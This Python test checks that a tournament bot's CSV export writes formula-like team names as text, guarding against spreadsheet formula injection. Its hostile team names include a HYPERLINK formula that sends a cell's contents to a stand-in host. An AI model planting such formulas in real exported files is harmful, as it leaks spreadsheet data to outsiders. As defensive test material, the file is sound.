"""Every CSV of ``/tournament export`` opens safely in a spreadsheet: a team named like a
formula (``=HYPERLINK(...)``, ``+1``, ``@SUM``) is written as text, never run (OWASP's
"CSV injection"); numbers stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile

from bot.core.model import File
from bot.core.service import GameService
from storage.store import Store
from tests.core.driver import Clock, seeded
from tests.core.tournament.test_tournament_flow import Club

HOSTILE = ('=HYPERLINK("http://x.example/?"&A1,"Ver")', "+1+1", "@SUM(A1)", "-2+3")


async def test_a_team_named_like_a_formula_is_text_in_every_exported_csv(store: Store) -> None:
    clock = Clock()
    club = Club(GameService(store, clock=clock, seeds=seeded(5)), clock, store)
    await club.say("Org", "/tournament new Copa rounds=1 checkin=off minutes=0", admin=True)
    for name in HOSTILE:
        await club.say("Org", f"/tournament register {name} computer computer", admin=True)
    await club.say("Org", "/tournament close", admin=True)
    await club.say("Org", "/tournament start", admin=True)
    for _ in range(400):
        await club.tick(60)
        if (await club.event()).row.status == "finished":
            break
    [file] = [e for e in await club.say("Org", "/tournament export") if isinstance(e, File)]
    archive = zipfile.ZipFile(io.BytesIO(file.data))
    sheets = [n for n in archive.namelist() if n.endswith(".csv")]
    assert {"standings.csv", "tables.csv", "log.csv"} <= set(sheets), sheets
    seen = set()
    for name in sheets:
        for row in csv.reader(io.StringIO(archive.read(name).decode())):
            for cell in row:
                assert not cell.startswith(("=", "+", "@")), (name, cell)
                if cell.startswith("-"):
                    assert cell.lstrip("-").replace(".", "").isdigit(), (name, cell)
                seen.add(cell)
    # kept, as text (the name as registered)
    assert any(c.startswith("'=HYPERLINK(") for c in seen) and "'-2+3" in seen, seen
